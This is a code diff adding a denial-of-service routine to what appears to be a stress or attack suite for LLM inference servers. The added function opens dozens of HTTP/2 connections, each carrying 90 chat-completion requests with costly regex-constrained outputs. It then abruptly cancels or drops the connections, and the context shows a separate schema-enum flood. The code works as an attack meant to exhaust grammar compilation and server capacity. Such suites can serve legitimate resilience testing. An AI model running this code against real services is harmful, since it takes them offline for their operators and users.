@@ -3,8 +3,9 @@
 import itertools
 import json
 import random
+import time
 
-from peer import GZIP, JSON, Raw, more_descriptors, packed, post
+from peer import CANCEL, GZIP, H2, INITIAL_WINDOW_SIZE, JSON, Raw, data, more_descriptors, packed, post, rst
 from registry import attack
 from text import flood
 
@@ -102,3 +103,28 @@ def expressions_in_turns(target):
               {'response_format': {'type': 'json_schema', 'json_schema': {'name': 's', 'schema': {'enum': ['x' * 100 + str(i) for i in range(2300)]}}}}]
     return flood(target, [post('/v1/chat/completions', json.dumps({'model': 'chat', 'max_tokens': 50, 'messages': MESSAGES, **kind}).encode(), JSON)
                           for kind in kinds])
+
+
+@attack(seconds=30, quick=8, probes=('tokens', 'form'))
+def forms_that_wait(target):
+    """5,400 requests at once for a form each, on 60 HTTP/2 connections, that wait to be compiled, and as many for one and the same; many leave."""
+    chance, peers, begun, number = random.Random(72), [], 0, itertools.count()
+    same = json.dumps({'model': 'chat', 'max_tokens': 5, 'messages': MESSAGES, 'structured_outputs': {'regex': '([a-z]{1,200} ){1,200}'}}).encode()
+    while not target.over():
+        peers = [h2 for h2 in peers if h2.pump()]
+        while len(peers) < target.size(60, 15) and not target.over():
+            h2 = H2(target, (INITIAL_WINDOW_SIZE, 65535), wait=3)
+            alike = chance.random() < 0.5
+            for stream in range(1, 180, 2):
+                body = same if alike else json.dumps({'model': 'chat', 'max_tokens': 5, 'messages': MESSAGES, 'structured_outputs': {
+                    'regex': f'([a-z]{{1,200}} ){{1,200}}x{next(number)}'}}).encode()
+                h2.send(h2.head(stream, '/v1/chat/completions', 'POST', end=False, extra=[('content-type', 'application/json')]) + data(stream, body))
+            begun += 90
+            peers.append(h2)
+        for h2 in chance.sample(peers, len(peers) // 10):
+            if chance.random() < 0.5:
+                h2.send(b''.join(rst(stream, CANCEL) for stream in range(1, 180, 2)))
+            h2.sock.close()
+            peers.remove(h2)
+        time.sleep(0.3)
+    return f'{begun} begun, {len(peers)} connections at the end'
